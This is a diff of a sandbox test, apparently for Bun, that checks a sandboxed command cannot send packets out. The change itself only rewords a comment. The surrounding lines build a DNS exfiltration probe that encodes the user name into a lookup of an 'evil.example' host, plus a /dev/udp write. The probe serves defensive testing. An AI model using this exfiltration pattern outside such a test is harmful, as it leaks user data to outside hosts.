@@ -91,7 +91,7 @@ describe.skipIf(problem !== undefined)("a sandboxed command cannot send packets 
     const dns = `const { Resolver } = require("node:dns"); const r = new Resolver({ timeout: 200, tries: 1 }); r.setServers(["127.0.0.1:${server.address().port}"]); r.resolve4(process.argv[1], () => process.exit(0));`;
     const lookUp = `timeout 20 bun -e '${dns}' "$(id -un).evil.example"`;
     await run(`${lookUp}; echo x > /dev/udp/127.0.0.1/${server.address().port}`);
-    // What is sent on this machine is there when the sender goes on, so one from outside comes last.
+    // Data sent on this machine has arrived when the sender continues, so data from outside arrives last.
     const before = packets;
     await run(lookUp, { outside: true });
     while (packets === before) await Bun.sleep(5);
